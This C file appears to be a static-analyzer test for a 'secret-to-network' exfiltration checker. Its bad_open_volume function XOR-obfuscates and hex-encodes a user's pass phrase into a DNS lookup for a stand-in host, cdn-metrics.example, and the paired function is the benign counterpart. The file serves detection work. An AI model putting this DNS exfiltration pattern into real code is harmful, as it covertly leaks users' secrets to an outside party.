/* A pass phrase leaves inside the host name that a resolver is asked for. */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void to_label(const char *text, char *label, size_t room) {
    static const char digits[] = "0123456789abcdef";
    size_t used = 0;
    for (size_t i = 0; text[i] && used + 2 < room; i++) {
        unsigned char c = (unsigned char)text[i] ^ 0x5c;
        label[used++] = digits[c >> 4];
        label[used++] = digits[c & 15];
    }
    label[used] = 0;
}

int bad_open_volume(void) {
    char label[128], host[256];
    struct addrinfo *found = NULL;
    const char *phrase = getpass("Pass phrase: ");
    to_label(phrase, label, sizeof label);
    snprintf(host, sizeof host, "%s.v2.cdn-metrics.example", label);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    int status = getaddrinfo(host, NULL, NULL, &found);
    if (status == 0)
        freeaddrinfo(found);
    return status;
}

/* The same calls, but the name asked for comes from the command line. */
int good_open_volume(int argc, char **argv) {
    char label[128], host[256];
    struct addrinfo *found = NULL;
    const char *phrase = getpass("Pass phrase: ");
    if (argc < 2 || strlen(phrase) < 8)
        return -1;
    to_label(argv[1], label, sizeof label);
    snprintf(host, sizeof host, "%s.volumes.example", label);
    int status = getaddrinfo(host, NULL, NULL, &found);
    if (status == 0)
        freeaddrinfo(found);
    return status;
}
